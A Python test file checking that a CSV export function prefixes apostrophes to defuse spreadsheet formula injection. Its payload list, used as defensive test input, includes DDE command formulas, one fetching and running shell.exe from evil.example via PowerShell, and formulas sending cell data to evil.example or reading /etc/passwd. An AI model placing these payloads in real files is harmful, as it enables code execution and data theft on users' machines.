"""CSV files of our own making."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobs.services.csv_export import defuse, stream

# ASVS 5.0 1.2.10, OWASP's page on CSV injection, and public lists of payloads.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x1f=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\u2066=1+1",
    "\ufe0f=1+1",
    "\u3164=1+1",
    '"=1+1',
    '""=1+1',
    ' "=1+1"',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661",
    "\ufe621",
    "\ufe631",
    "\ufe6bSUM(1)",
    "\u207c1",
    "\u207a1",
    "\u207b1",
    "\u22121",
    "=cmd|'/c calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: please click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=IF(TRUE,cmd|'/C calc'!A0)",
    "\u200b\u00a0\ufeff\t=1+1",
    '=1+1";=1+1"',
]
# Where a list separator other than the comma or a line break parts a value in its middle.
PARTED = [
    ("a;=1+1", "a;'=1+1"),
    ("a; =1+1", "a;' =1+1"),
    ("a;;=1+1", "a;;'=1+1"),
    ("a;+1;-1;@x", "a;'+1;'-1;'@x"),
    ("a\t=1+1", "a\t'=1+1"),
    ("a|=1+1", "a|'=1+1"),
    ("a\n=1+1", "a\n'=1+1"),
    ("a\r\n=1+1", "a\r\n'=1+1"),
    ("a\u2028=1+1", "a\u2028'=1+1"),
    ('a;"=1+1"', 'a;\'"=1+1"'),
    ('a";=1+1', "a\";'=1+1"),
    ("a;\ufeff=1+1", "a;'\ufeff=1+1"),
]


def read(rows):
    text = b"".join(stream(rows)).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("cell", PAYLOADS)
def test_what_a_spreadsheet_takes_for_a_formula_is_defused(cell):
    assert len(PAYLOADS) >= 60
    assert defuse(cell) == defuse(cell.replace("\0", ""))
    assert defuse(cell).startswith("'")


@pytest.mark.parametrize(("cell", "safe"), PARTED)
def test_a_formula_in_the_middle_is_defused_where_a_spreadsheet_may_part_the_cell(cell, safe):
    assert defuse(cell) == safe


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "",
            "Boyle",
            "a=b",
            "1-2",
            "x@example.com",
            "2026-01-31",
            "Ünïcödé",
            "'=1",
            "a; b",
            "a, -1",
        ),
        *("Line one\nline two", "50 % - 60 %", "Smith + Sons", "C:\\temp", "(+49) 30 1234", " x"),
    ],
)
def test_other_text_is_left_alone(cell):
    assert defuse(cell) == cell


@given(st.text())
def test_no_cell_and_no_part_of_one_begins_as_a_formula(cell):
    safe = defuse(cell)

    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    for part in safe.replace("\n", ";").replace("\r", ";").replace("\t", ";").split(";"):
        assert not part.lstrip(' "').startswith(("=", "+", "-", "@"))


@given(st.text())
def test_nothing_but_apostrophes_is_added_and_nothing_but_nul_is_lost(cell):
    assert defuse(cell).replace("'", "") == cell.replace("\0", "").replace("'", "")


@pytest.mark.parametrize("cell", ["\t" * 300_000, "; " * 300_000, '"' * 300_000, ";\t\n" * 100_000])
def test_a_hostile_cell_takes_no_longer_than_its_length_asks_for(cell):
    # Were each sign searched from each place, this would run for minutes.
    assert "=" not in defuse(cell)


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=30), min_size=1))
def test_cells_come_back_as_they_were_written(cells):
    assert read([cells]) == [[defuse(cell) for cell in cells]]


def test_a_byte_order_mark_comes_first():
    assert b"".join(stream([["ä"]])) == b'\xef\xbb\xbf"\xc3\xa4"\r\n'


def test_half_a_character_is_replaced():
    assert read([["\ud800"]]) == [["?"]]
